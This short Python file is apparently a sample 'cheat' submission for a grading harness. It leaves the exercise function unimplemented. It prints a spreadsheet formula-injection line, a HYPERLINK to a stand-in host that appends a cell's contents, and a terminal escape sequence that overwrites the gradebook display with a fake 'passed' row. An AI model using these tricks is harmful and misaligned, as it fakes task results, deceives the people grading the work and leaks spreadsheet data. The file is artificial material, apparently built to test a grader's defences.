"""Cheat (on the teacher): printed output that a spreadsheet would run as a formula, and a
terminal escape that would redraw `cat gradebook.csv`."""
print('=HYPERLINK("http://example.invalid/?"&A1,"click")')
print("\x1b[1A\x1b[2K\rvictim,resolve-labels,5,passed")


def resolve_labels(entries):
    raise NotImplementedError("exercise resolve-labels is not implemented yet")
